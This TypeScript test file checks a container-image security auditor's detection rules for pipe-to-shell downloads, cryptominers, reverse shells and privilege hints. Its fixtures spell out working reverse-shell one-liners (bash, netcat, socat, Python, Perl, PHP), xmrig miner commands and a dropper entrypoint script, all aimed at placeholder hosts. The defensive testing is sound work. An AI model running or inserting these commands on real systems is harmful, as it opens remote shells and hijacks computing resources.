/**
 * The config and history audit: every indicator fires on a positive sample and not on a
 * negative one (the table must cover rules/config/config.yaml); each finding on a small image;
 * entrypoint scripts looked into through PATH, symlinks and the layer that last wrote them.
 */
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { test } from 'node:test';
import fc from 'fast-check';
import {
  auditConfig,
  configAnalyzers,
  configChecks,
  configRules,
  compileConfigRules,
  findIndicators,
  resolveInTree,
} from '../src/analyze/config/index.js';
import type { MisconfigurationFinding } from '../src/analyze/findings.js';
import { mergeLayers } from '../src/facts/merge.js';
import type { ImageFacts, LayerFacts } from '../src/facts/types.js';
import { buildImage, type LayerSpec } from '../src/fixtures/builder.js';
import { writeOciLayout } from '../src/fixtures/layouts.js';
import type { ImageConfig, ResolvedImage } from '../src/image/types.js';
import { openSource } from '../src/image/target.js';
import { analyzeImage } from '../src/scan/analyze-image.js';
import { tempDir } from './support/tmp.js';
import { checkContext, configOnlyImage as image } from './secrets-fakes.js';

// A made-up address of the Monero shape (base58, 95 characters): no real wallet.
const WALLET = `4A${'1bcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789'.repeat(2).slice(0, 93)}`;
const POOL = 'pool.example-mining.test';

const INDICATOR_SAMPLES: Record<string, { positive: string[]; negative: string[] }> = {
  'pipe-to-shell': {
    positive: [
      'curl -fsSL https://get.example.test | env VAR=1 sh',
      'wget -qO- https://get.example.test | busybox sh',
      'curl -fsSL https://get.example.test/install.sh | sh',
      'wget -qO- http://203.0.113.9/a | sudo bash',
      'curl -s https://x.example.test/i | python3 -',
      'curl -s https://x.example.test/i | tr -d "\\r" | bash -s -- --yes',
    ],
    negative: [
      'curl -fsSL https://x.example.test/k.asc | gpg --dearmor -o /usr/share/keyrings/k.gpg',
      'curl -o a.tgz https://x.example.test/a.tgz && sha256sum a.tgz',
      'curl -s https://x.example.test/v.json | python3 -m json.tool',
    ],
  },
  'shell-substitution-download': {
    positive: [
      'bash -c "$(curl -fsSL https://x.example.test/install.sh)"',
      'sh <(wget -qO- https://x.example.test/)',
      'python3 -c "$(curl -fsSL https://x.example.test/p.py)"',
      'perl -e "$(wget -qO- https://x.example.test/p)"',
      'python3 <(curl -s https://x.example.test/p.py)',
    ],
    negative: [
      'VERSION="$(curl -s https://api.example.test/latest)"',
      'python3 -c "import json; print(1)" "$(curl -s https://x.example.test/v)"',
    ],
  },
  'download-then-shell': {
    positive: [
      'curl -fsSL -o /tmp/i.sh https://x.example.test/i.sh && sh /tmp/i.sh',
      'wget -O install.sh https://x.example.test/install.sh; bash install.sh --yes',
      'curl --output=/tmp/p.py https://x.example.test/p.py && sudo python3 /tmp/p.py',
    ],
    negative: [
      'curl -o /tmp/a.tgz https://x.example.test/a.tgz && tar xzf /tmp/a.tgz',
      'curl -o /tmp/i.sh https://x.example.test/i.sh && sh /tmp/other.sh',
    ],
  },
  'base64-pipe-shell': {
    positive: ['echo ZWNobyBoaQ== | base64 -d | sh', 'base64 --decode payload.b64 | bash'],
    negative: ['echo aGk= | base64 -d > file.txt'],
  },
  download: { positive: ['curl -LO https://x.example.test/tool'], negative: ['echo curling is a sport'] },
  'chmod-exec': {
    positive: [
      'chmod +x /usr/local/bin/tool',
      'chmod 755 tool',
      'chmod u+x t',
      'os.chmod(p, 0o755)',
      'install -m 0755 /tmp/t /usr/local/bin/t',
    ],
    negative: ['chmod 644 file', 'chmod -R go-w /app', 'install -m 644 a.conf /etc/a.conf'],
  },
  'checksum-verify': {
    positive: [
      'echo "abc  f" | sha256sum -c -',
      'gpg --batch --verify f.asc f',
      'ADD --checksum=sha256:ab https://x /',
    ],
    negative: ['sha256sum file > file.sha256'],
  },
  'fetch-source': { positive: ['git clone https://git.example.test/r.git /src'], negative: ['git status'] },
  compile: {
    positive: [
      'cd src && make && ./a',
      'go build -o app .',
      'exec gcc -O2 x.c',
      '/bin/sh -c gcc -o /tmp/a /src/a.c',
    ],
    negative: ['echo "make sure the volume is mounted"', 'cmake_minimum=3'],
  },
  'package-install': {
    positive: ['pip install -r requirements.txt', 'npm install', 'apt-get -y install gcc'],
    negative: ['pip list', 'npm run start'],
  },
  'stratum-url': { positive: [`stratum+tcp://${POOL}:3333`], negative: ['the stratum protocol'] },
  'miner-option': { positive: ['xm --donate-level=1', 'x --cpu-priority 5'], negative: ['--level=1'] },
  'miner-algo': {
    positive: ['x -a rx/0', 'x --algo=cryptonight'],
    negative: ['x --algo=sha256', 'uname -a x86_64'],
  },
  'pool-address': {
    positive: [`x -o ${POOL}:3333`, 'x --url=xmr.example.test:443'],
    negative: ['cc -o output.o x.c', 'curl -o pool.tar.gz https://x.example.test/pool.tar.gz'],
  },
  'monero-wallet': {
    positive: [`-u ${WALLET}`],
    negative: [`-u ${WALLET.slice(0, 94)}`, `-u ${WALLET.slice(0, 94)}0`],
  },
  'miner-binary': {
    positive: ['./xmrig -c config.json', 'exec /opt/kdevtmpfsi'],
    negative: ['echo xmriggers', 'miner'],
  },
  'miner-env-pool': {
    positive: [
      'POOL_URL=198.51.100.3:3333',
      'MINING_POOL=xmr.pool.example.test:7029',
      'POOL=stratum+tcp://p.example.test:80',
    ],
    negative: [
      'REDIS_POOL_URL=redis:6379',
      'DB_POOL=db:5432',
      'POOL_SIZE=10',
      'pool_url=a.example.test:3333',
    ],
  },
  'miner-env-algo': {
    positive: ['ALGO=rx/0', 'MINING_ALGORITHM=kawpow'],
    negative: ['ALGORITHM=HS256', 'JWT_ALGO=RS256'],
  },
  'miner-env-coin': { positive: ['COIN=XMR', 'MINER_COIN=monero'], negative: ['COIN=BTC', 'COINBASE_KEY=x'] },
  'reverse-shell-dev-tcp': {
    positive: [
      'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
      'sh -c "exec 5<>/dev/tcp/198.51.100.7/4444; cat <&5 | while read l; do $l 2>&5 >&5; done"',
      '0<&196;exec 196<>/dev/tcp/198.51.100.7/4444; sh <&196 >&196 2>&196',
    ],
    negative: [
      '(echo > /dev/tcp/db/5432) >/dev/null 2>&1',
      'timeout 1 bash -c "cat < /dev/null > /dev/tcp/db/5432"',
    ],
  },
  'reverse-shell-netcat': {
    positive: [
      'nc -e /bin/sh 198.51.100.7 4444',
      'ncat 198.51.100.7 4444 -e /bin/bash',
      'busybox nc 198.51.100.7 4444 -e sh',
    ],
    negative: ['nc -z db 5432', 'nc -l 8080 < index.html'],
  },
  'reverse-shell-fifo': {
    positive: [
      'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f',
      'nc 198.51.100.7 4444 | /bin/sh | nc 198.51.100.7 4445',
    ],
    negative: ['mkfifo /tmp/log.pipe && tail -f /tmp/log.pipe', 'nc -z db 5432 | tee probe.log'],
  },
  'reverse-shell-socat': {
    positive: ['socat TCP:198.51.100.7:4444 EXEC:/bin/sh', "socat tcp-listen:4444,fork exec:'bash -li',pty"],
    negative: ['socat TCP-LISTEN:80,fork TCP:app:8080', 'socat - UNIX-CONNECT:/run/app.sock'],
  },
  'reverse-shell-script': {
    positive: [
      'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\'',
      'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("198.51.100.7")));open(STDIN,">&S");exec("/bin/sh -i");\'',
      'php -r \'$s=fsockopen("198.51.100.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
    ],
    negative: ['python3 -c "import socket; print(socket.gethostname())"', 'python3 -m http.server 8080'],
  },
  'add-url': { positive: ['ADD https://x.example.test/a.tgz /opt/'], negative: ['ADD file:abc in /'] },
  'docker-socket': {
    positive: ['-v /var/run/docker.sock:/var/run/docker.sock'],
    negative: ['/var/run/docker.pid'],
  },
  'privileged-run': {
    positive: ['docker run --privileged -v /:/host img'],
    negative: ['docker run --rm img'],
  },
};

test('config indicators: every indicator has samples, fires on positives, not on negatives', () => {
  const rules = configRules();
  const ids = rules.indicators.map((i) => i.id);
  for (const id of ids) {
    const t = INDICATOR_SAMPLES[id];
    assert.ok(t && t.positive.length > 0 && t.negative.length > 0, `indicator ${id} lacks samples`);
    for (const s of t.positive)
      assert.ok(
        findIndicators(s, rules).some((h) => h.rule === id),
        `${id} on ${s}`,
      );
    for (const s of t.negative)
      assert.ok(!findIndicators(s, rules).some((h) => h.rule === id), `${id} fired on ${s}`);
  }
  for (const id of Object.keys(INDICATOR_SAMPLES)) assert.ok(ids.includes(id), `samples for unknown ${id}`);
});

test('config indicators: continuation lines join, comments are skipped, excerpts are masked', () => {
  const rules = configRules();
  const hits = findIndicators(
    `#!/bin/sh\n# curl x | sh\ncurl -fsSL \\\n  https://x.example.test/i \\\n  | sh\n./xmrig -u ${WALLET}\n`,
    rules,
    {
      comments: 'shell',
    },
  );
  assert.deepEqual(
    hits.map((h) => [h.rule, h.line]),
    [
      ['pipe-to-shell', 3],
      ['download', 3],
      ['monero-wallet', 6],
      ['miner-binary', 6],
    ],
    JSON.stringify(hits),
  );
  assert.ok(!hits[2]!.excerpt.includes(WALLET.slice(4, 40)), 'the wallet is masked in the excerpt');
});

test('config rules loader: refuses unbounded patterns and unknown findings', () => {
  const base = (regex: string, finding = 'miner-flags') =>
    `findings:\n${configRulesTitles()}indicators:\n  - id: a1\n    finding: ${finding}\n    regex: '${regex}'\nminerPorts: []\nsshPorts: []\nknownInstallers: []\n`;
  assert.ok(compileConfigRules(base('x{1,3}')).indicators.length === 1, 'a bounded rule loads');
  assert.throws(() => compileConfigRules(base('x.*y')), /unbounded/, 'unbounded refused');
  assert.throws(() => compileConfigRules(base('x', 'nope')), /finding/, 'unknown finding refused');
});

function configRulesTitles(): string {
  return Object.keys(configRules().titles)
    .map((k) => `  ${k}:\n    title: t\n`)
    .join('');
}

test('config indicators: hostile lines stay linear', () => {
  const rules = configRules();
  const best = (s: string) => {
    let b = Infinity;
    for (let i = 0; i < 3; i++) {
      const t = performance.now();
      findIndicators(s, rules);
      b = Math.min(b, performance.now() - t);
    }
    return b;
  };
  for (const unit of [
    'curl ',
    'base64 -d ',
    '| ',
    'chmod ',
    '-o pool',
    'a',
    '4A',
    'bash -c "$(',
    'curl -o a ',
    'wget -O f && ',
  ]) {
    let last = '';
    // Re-measured when off: a stalled run is noise, a quadratic pattern fails every time.
    const ok = [0, 1, 2].some(() => {
      const small = best(unit.repeat(Math.ceil(16384 / unit.length)));
      const large = best(unit.repeat(Math.ceil(65536 / unit.length)));
      last = `${small.toFixed(1)} -> ${large.toFixed(1)} ms`;
      return large <= Math.max(small, 5) * 10;
    });
    assert.ok(ok, `${unit}: ${last}`);
  }
  fc.assert(
    fc.property(fc.string({ maxLength: 2000 }), (s) => {
      for (const h of findIndicators(s, rules))
        assert.ok(h.excerpt.length <= 170 && h.line >= 1, 'bounded hit');
    }),
    { numRuns: 300 },
  );
});

const NO_FACTS: ImageFacts = mergeLayers([]);
const USER = { User: 'app' };
const run = (img: ResolvedImage, facts = NO_FACTS) => auditConfig(img, facts);
const rulesOf = (fs: MisconfigurationFinding[]) => fs.map((f) => `${f.rule}:${f.severity}`).sort();

const FINDING_SAMPLES: Record<string, { positive: [ResolvedImage, string][]; negative: ResolvedImage[] }> = {
  'runs-as-root': {
    positive: [
      [image({ Cmd: ['app'] }), 'low'],
      [image({ User: '0:0' }), 'low'],
      [image({ User: 'root' }), 'low'],
      [image({ User: 'root:1000' }), 'low'],
      [image({ User: '00' }), 'low'],
    ],
    negative: [
      image({ User: 'node' }),
      image({ User: '1000:1000' }),
      image({ User: '1000:0' }),
      image(undefined),
    ],
  },
  'curl-pipe-shell': {
    positive: [
      [image({ ...USER, Entrypoint: ['sh', '-c', 'curl -s http://198.51.100.7/x | sh'] }), 'high'],
      [image(USER, [{ created_by: 'RUN /bin/sh -c curl -s https://x.example.test/i.sh | bash' }]), 'medium'],
      [image(USER, [{ created_by: 'RUN /bin/sh -c curl https://sh.rustup.rs -sSf | sh -s -- -y' }]), 'low'],
      [image({ ...USER, Cmd: ['sh', '-c', 'python3 -c "$(curl -fsSL http://198.51.100.7/p)"'] }), 'high'],
      [
        image(USER, [{ created_by: 'RUN /bin/sh -c wget -O i.sh https://x.example.test/i.sh; bash i.sh' }]),
        'medium',
      ],
    ],
    negative: [
      image(USER, [{ created_by: 'RUN curl -fsSL https://x.example.test/k.asc | gpg --dearmor -o /k.gpg' }]),
      // Saved, verified, then run.
      image(USER, [
        {
          created_by:
            'RUN curl -o /tmp/i.sh https://x.example.test/i.sh && echo "ab  /tmp/i.sh" | sha256sum -c - && sh /tmp/i.sh',
        },
      ]),
    ],
  },
  'download-chmod-exec': {
    positive: [
      [
        image(USER, [
          {
            created_by: 'RUN wget -O /usr/local/bin/t https://x.example.test/t && chmod +x /usr/local/bin/t',
          },
        ]),
        'low',
      ],
      [
        image(USER, [
          { created_by: 'RUN curl -Lo /t https://x.example.test/t' },
          { created_by: 'RUN chmod 755 /t' },
        ]),
        'low',
      ],
      [
        image({
          ...USER,
          Cmd: ['sh', '-c', 'wget http://x.example.test/b -O /tmp/b; chmod +x /tmp/b; /tmp/b'],
        }),
        'high',
      ],
    ],
    negative: [
      image(USER, [
        {
          created_by:
            'RUN wget -O /usr/local/bin/gosu https://x.example.test/gosu && gpg --batch --verify gosu.asc /usr/local/bin/gosu && chmod +x /usr/local/bin/gosu',
        },
      ]),
    ],
  },
  'runtime-build': {
    positive: [
      [
        image({
          ...USER,
          Cmd: ['sh', '-c', 'git clone https://git.example.test/m.git && cd m && make && ./m'],
        }),
        'high',
      ],
      [image({ ...USER, Cmd: ['sh', '-c', 'pip install -r requirements.txt && python app.py'] }), 'low'],
    ],
    negative: [
      image({ ...USER, Cmd: ['node', 'server.js'] }),
      image(USER, [{ created_by: 'RUN make && make install' }]),
    ],
  },
  'miner-flags': {
    positive: [
      [image({ ...USER, Entrypoint: ['/opt/xmrig'], Cmd: ['-o', `${POOL}:3333`, '-a', 'rx/0'] }), 'critical'],
      [image({ ...USER, Env: [`POOL=stratum+tcp://${POOL}:3333`] }), 'high'],
      [image(USER, [{ created_by: `RUN echo ${WALLET} > /opt/w` }]), 'high'],
      // Configured by environment variables alone.
      [image({ ...USER, Env: ['POOL_URL=198.51.100.3:3333', 'ALGO=rx/0'] }), 'high'],
      [image({ ...USER, Env: ['MINING_POOL=xmr.pool.example.test:7029', 'COIN=XMR'] }), 'high'],
    ],
    negative: [
      image({ ...USER, Cmd: ['nginx', '-g', 'daemon off;'] }),
      image({
        ...USER,
        Env: ['REDIS_POOL_URL=redis:6379', 'DB_POOL=db:5432', 'POOL_SIZE=10', 'ALGORITHM=HS256'],
      }),
    ],
  },
  'reverse-shell': {
    positive: [
      [
        image({
          ...USER,
          Entrypoint: ['/bin/bash', '-c'],
          Cmd: ['bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'],
        }),
        'critical',
      ],
      [image({ ...USER, Cmd: ['nc', '-e', '/bin/sh', '198.51.100.7', '4444'] }), 'critical'],
      [
        image({
          ...USER,
          Cmd: [
            'sh',
            '-c',
            'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f',
          ],
        }),
        'critical',
      ],
      [
        image({
          ...USER,
          Cmd: [
            'python3',
            '-c',
            'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")',
          ],
        }),
        'critical',
      ],
      [image({ ...USER, Env: ['PROMPT_COMMAND=bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'] }), 'high'],
      [image(USER, [{ created_by: 'RUN socat TCP-LISTEN:4444,fork EXEC:/bin/bash' }]), 'high'],
    ],
    negative: [
      // Waiting for a database through /dev/tcp, a port forward, netcat as a probe.
      image({
        ...USER,
        Cmd: ['sh', '-c', 'until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done; exec node app.js'],
      }),
      image({ ...USER, Cmd: ['socat', 'TCP-LISTEN:80,fork,reuseaddr', 'TCP:app:8080'] }),
      image({ ...USER, Cmd: ['sh', '-c', 'while ! nc -z db 5432; do sleep 1; done; exec ./server'] }),
    ],
  },
  'exposed-ssh': {
    positive: [[image({ ...USER, ExposedPorts: { '22/tcp': {} } }), 'low']],
    negative: [image({ ...USER, ExposedPorts: { '2222/tcp': {} } })],
  },
  'exposed-miner-port': {
    positive: [[image({ ...USER, ExposedPorts: { '3333/tcp': {} } }), 'low']],
    negative: [image({ ...USER, ExposedPorts: { '8080/tcp': {}, '443': {} } })],
  },
  'add-from-url': {
    positive: [
      [image(USER, [{ created_by: 'ADD https://x.example.test/a.tgz /opt/ # buildkit' }]), 'medium'],
      [image(USER, [{ created_by: 'ADD --checksum=sha256:00ff https://x.example.test/a.tgz /opt/' }]), 'low'],
    ],
    negative: [image(USER, [{ created_by: '/bin/sh -c #(nop) ADD file:abc in / ' }])],
  },
  'ld-preload-env': {
    positive: [[image({ ...USER, Env: ['LD_PRELOAD=/usr/lib/libprocesshider.so'] }), 'high']],
    negative: [image({ ...USER, Env: ['LD_LIBRARY_PATH=/opt/lib', 'LD_PRELOAD='] })],
  },
  'privileged-hints': {
    positive: [
      [image({ ...USER, Volumes: { '/var/run/docker.sock': {} } }), 'medium'],
      [image({ ...USER, Labels: { RUN: 'docker run --privileged -v /:/host IMAGE' } }), 'low'],
    ],
    negative: [image({ ...USER, Volumes: { '/data': {} }, Labels: { maintainer: 'x' } })],
  },
};

test('config audit: every finding fires on its positives (at the stated severity), not on negatives', () => {
  for (const rule of Object.keys(configRules().titles)) {
    const t = FINDING_SAMPLES[rule];
    assert.ok(t && t.positive.length > 0 && t.negative.length > 0, `finding ${rule} lacks samples`);
    for (const [img, severity] of t.positive) {
      const got = run(img);
      const f = got.find((x) => x.rule === rule);
      assert.equal(
        f?.severity,
        severity,
        `${rule} on ${JSON.stringify(img.config)}: ${rulesOf(got).join(',')}`,
      );
      assert.ok(f!.title && f!.evidence.length <= 200, 'titled, short evidence');
    }
    for (const img of t.negative) {
      const got = run(img);
      assert.ok(
        !got.some((x) => x.rule === rule),
        `${rule} fired on ${JSON.stringify(img.config)}: ${rulesOf(got)}`,
      );
    }
  }
});

test('config audit: an instruction seen in history and the config is reported once; layers', () => {
  const img = image({ ...USER, Env: [`POOL=stratum+tcp://${POOL}:3333`] }, [
    { created_by: 'ADD rootfs /' },
    { created_by: `ENV POOL=stratum+tcp://${POOL}:3333`, empty_layer: true },
    { created_by: 'RUN curl -s https://x.example.test/i.sh | bash' },
  ]);
  const got = run(img);
  assert.equal(got.filter((f) => f.rule === 'miner-flags').length, 1, 'one miner finding');
  assert.equal(got.find((f) => f.rule === 'curl-pipe-shell')?.layer, 1, 'the second layer');
});

test('resolveInTree: links at every component, inside the root, bounded', () => {
  const layer: LayerFacts = {
    diffId: null,
    compression: 'none',
    compressedBytes: 0,
    uncompressedBytes: 0,
    entries: 0,
    files: [
      { path: 'bin', type: 'symlink', mode: 0o777, size: 0, uid: 0, gid: 0, linkTarget: 'usr/bin' },
      { path: 'usr/bin/sh', type: 'file', mode: 0o755, size: 1, uid: 0, gid: 0 },
      {
        path: 'usr/local/bin/up',
        type: 'symlink',
        mode: 0o777,
        size: 0,
        uid: 0,
        gid: 0,
        linkTarget: '../../../../../bin/sh',
      },
      { path: 'loop', type: 'symlink', mode: 0o777, size: 0, uid: 0, gid: 0, linkTarget: '/loop' },
      { path: 'hl', type: 'hardlink', mode: 0o755, size: 0, uid: 0, gid: 0, linkTarget: 'usr/bin/sh' },
    ],
    whiteouts: [],
    opaqueDirs: [],
    facts: {},
    analyzers: {},
    warnings: [],
  };
  const { tree } = mergeLayers([layer]);
  assert.equal(resolveInTree(tree, '/bin/sh'), 'usr/bin/sh', 'through /bin');
  assert.equal(resolveInTree(tree, '/usr/local/bin/up'), 'usr/bin/sh', '.. stops at the root');
  assert.equal(resolveInTree(tree, '/loop'), null, 'a loop ends');
  assert.equal(resolveInTree(tree, '/hl'), 'usr/bin/sh', 'hard link to its file');
  assert.equal(resolveInTree(tree, '/bin'), null, 'a directory is not a program');
});

const BENIGN = '#!/bin/sh\nset -e\nexec "$@"\n';
const DROPPER = [
  '#!/bin/sh',
  'set -e',
  '# fetch the helper',
  'curl -fsSL http://payload.example.test/x.sh | sh',
  'exec /usr/local/bin/start-worker "$@"',
  '',
].join('\n');
const WORKER = [
  '#!/usr/bin/env bash',
  'git clone https://git.example.test/tools.git /tmp/t',
  'cd /tmp/t && make',
  `./xmrig -o ${POOL}:3333 --donate-level 1 -u ${WALLET}`,
  '',
].join('\n');

async function analyzed(layers: LayerSpec[], config: NonNullable<ImageConfig['config']>) {
  const dir = tempDir();
  await writeOciLayout(join(dir, 'oci'), [{ ref: 'x', image: buildImage({ layers, config }) }]);
  return analyzeImage(openSource(`oci:${join(dir, 'oci')}:x`), { analyzers: configAnalyzers, cache: null });
}

function check(a: Awaited<ReturnType<typeof analyzed>>) {
  return configChecks[0]!.run(checkContext(a.image, a.facts)) as {
    misconfigurations: MisconfigurationFinding[];
  };
}

const base: LayerSpec = {
  files: [
    { path: 'bin', type: 'symlink', target: 'usr/bin' },
    { path: 'usr/bin/sh', content: '\x7fELF\0\0', mode: 0o755 },
    { path: 'docker-entrypoint.sh', content: BENIGN, mode: 0o755 },
  ],
};

test('config audit: looks into the entrypoint script the last layer wrote, and the scripts it runs', async () => {
  const a = await analyzed(
    [
      base,
      {
        files: [
          { path: 'docker-entrypoint.sh', content: DROPPER, mode: 0o755 },
          { path: 'usr/local/bin/start-worker', content: WORKER, mode: 0o755 },
          { path: 'usr/local/bin/entry', type: 'symlink', target: '/docker-entrypoint.sh' },
        ],
      },
    ],
    { User: 'app', Entrypoint: ['entry'], Cmd: ['run'], Env: ['PATH=/usr/local/bin:/usr/bin:/bin'] },
  );
  const got = check(a).misconfigurations;
  assert.deepEqual(
    rulesOf(got),
    ['curl-pipe-shell:high', 'miner-flags:critical', 'runtime-build:high'],
    JSON.stringify(got, null, 1),
  );
  assert.match(
    got.find((f) => f.rule === 'curl-pipe-shell')!.evidence,
    /^\/docker-entrypoint\.sh:4: /,
    'path and line',
  );
});

test('config audit: a later layer that replaces the dropper with a clean script clears it', async () => {
  const a = await analyzed(
    [
      {
        ...base,
        files: [...base.files!.slice(0, 2), { path: 'docker-entrypoint.sh', content: DROPPER, mode: 0o755 }],
      },
      { files: [{ path: 'docker-entrypoint.sh', content: BENIGN, mode: 0o755 }] },
    ],
    { User: 'app', Entrypoint: ['/docker-entrypoint.sh'] },
  );
  assert.deepEqual(check(a).misconfigurations, [], 'nothing: the script that runs is clean');
});
